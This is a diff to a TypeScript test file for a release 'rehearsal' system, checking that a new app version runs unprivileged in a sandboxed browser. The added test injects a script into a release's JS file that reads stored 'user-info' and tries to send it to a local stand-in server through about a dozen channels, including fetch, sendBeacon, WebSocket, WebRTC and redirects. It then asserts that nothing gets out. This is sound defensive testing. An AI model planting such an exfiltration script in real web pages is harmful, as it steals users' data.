@@ -1,6 +1,52 @@
+import { spawnSync } from 'node:child_process';
+import dgram from 'node:dgram';
+import { once } from 'node:events';
+import fs from 'node:fs';
+import net from 'node:net';
 import { change, publish, releaseDesk, releaseOf, rowOf, type Console, type Rehearsal } from '../support/releases';
 import { START_LIMIT, startShop, type Shop } from '../support/shop';
 import { expect, test } from '../support/test';
+
+/** Whether this machine lets an unprivileged browser have its sandbox; elsewhere a release says that it was not rehearsed. */
+const hasSandbox = (() => {
+  const drop = process.getuid?.() === 0 ? ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', '--'] : [];
+  const [program = 'unshare', ...args] = [...drop, 'unshare', '--user', 'true'];
+  return spawnSync(program, args).status === 0;
+})();
+
+type Seen = { type: string; user: string; seccomp: string; sandboxed: boolean };
+
+/** What runs of rehearsals' browsers right now. */
+function browsersNow(): Seen[] {
+  const read = (id: string, file: string) => {
+    try {
+      return fs.readFileSync(`/proc/${id}/${file}`, 'utf8');
+    } catch {
+      return ''; // it has ended meanwhile
+    }
+  };
+  return fs.readdirSync('/proc').filter((entry) => /^\d+$/.test(entry)).flatMap((id) => {
+    const line = read(id, 'cmdline');
+    const status = read(id, 'status');
+    if (!line.includes('/cellar-rehearsal-') || !/chrom/i.test(/^Name:\s+(.*)$/m.exec(status)?.[1] ?? '')) return [];
+    const field = (name: string) => new RegExp(`^${name}:\\s+(\\d+)`, 'm').exec(status)?.[1] ?? '';
+    return [{ type: /--type=(\w+)/.exec(line)?.[1] ?? 'browser', user: field('Uid'), seccomp: field('Seccomp'), sandboxed: !line.includes('--no-sandbox') }];
+  });
+}
+
+/** Somebody else's server, and what reached it. */
+async function elsewhere() {
+  const heard: string[] = [];
+  const tcp = net.createServer((socket) => {
+    heard.push('tcp');
+    socket.on('error', () => undefined).end();
+  });
+  const udp = dgram.createSocket('udp4', () => heard.push('udp'));
+  tcp.listen(0, '127.0.0.1');
+  udp.bind(0, '127.0.0.1');
+  await Promise.all([once(tcp, 'listening'), once(udp, 'listening')]);
+  return { heard, port: (tcp.address() as net.AddressInfo).port, udpPort: udp.address().port, close: () => [tcp.close(), udp.close()] };
+}
 
 const DONE = { states: 200 };
 const TAKES = 120_000;
@@ -9,6 +55,7 @@ const NOISE = Array.from({ length: 12_000 }, (_, at) => ((at * 2_654_435_761) % 
 
 test.describe('rehearsal', () => {
   test.describe.configure({ mode: 'default' });
+  test.skip(!hasSandbox, 'this machine lets no browser have a sandbox');
   let shop: Shop;
   let desk: Console;
 
@@ -31,6 +78,39 @@ test.describe('rehearsal', () => {
     expect(await publish(desk, releaseOf('courses', '3.0.0', { document: (document) => ({ ...document, journeys }) }))).toMatchObject(DONE);
     expect(await rehearsed('3.0.0')).toMatchObject({ state: 'passed', findings: [] });
     expect(await change(desk, 'courses', 'promote', { version: '3.0.0', channel: 'stable' })).toMatchObject(DONE);
+  });
+
+  test('runs as an unprivileged user in its sandbox, and what a version asks for elsewhere never leaves', async () => {
+    test.setTimeout(TAKES + 30_000);
+    const foreign = await elsewhere();
+    const origin = `http://127.0.0.1:${foreign.port}`;
+    const attack = `
+      const told = encodeURIComponent(localStorage.getItem('user-info'));
+      const attempts = [
+        () => fetch('${origin}/fetch?' + told).catch(() => undefined), () => fetch('/console/api/remotes').catch(() => undefined), () => fetch('/metrics').catch(() => undefined),
+        () => (new Image().src = '${origin}/image'), () => navigator.sendBeacon('${origin}/beacon', told), () => new WebSocket('${origin.replace('http', 'ws')}/socket'),
+        () => navigator.serviceWorker.register('/worker.js').catch(() => undefined), () => open('${origin}/popup?' + told),
+        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${origin}/prefetch' })),
+        async () => {
+          const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${foreign.udpPort}', 'turn:127.0.0.1:${foreign.port}?transport=tcp'], username: 'a', credential: 'b' }] });
+          peer.createDataChannel('x');
+          await peer.setLocalDescription(await peer.createOffer());
+        },
+        () => setTimeout(() => (location.href = '${origin}/leave?' + told), 1000),
+      ];
+      for (const attempt of attempts) try { attempt(); } catch {}
+    `;
+    expect(await publish(desk, releaseOf('courses', '3.2.0', { file: (file, text) => (/^CourseScreen\..*js$/.test(file) ? `${attack};${text}` : text) }))).toMatchObject(DONE);
+    const seen: Seen[] = [];
+    const watching = setInterval(() => seen.push(...browsersNow()), 50);
+    const { state, findings } = await rehearsed('3.2.0').finally(() => clearInterval(watching));
+    foreign.close();
+    expect(foreign.heard).toEqual([]);
+    expect(state).toBe('failed');
+    const course = findings.filter(({ where }) => where === '/course').map(({ what }) => what).join('\n');
+    for (const asked of [`${origin}/leave`, `${shop.origin}/console/api/remotes`, `${shop.origin}/metrics`]) expect(course).toContain(`asked for ${asked}`);
+    expect(seen.filter(({ user, sandboxed }) => user === '0' || !sandboxed)).toEqual([]);
+    expect(seen.filter(({ type, seccomp }) => type === 'renderer' && seccomp === '2').length).toBeGreaterThan(0);
   });
 
   test('refuses a version that throws, is too heavy or fails its journey, before anybody has it', async () => {
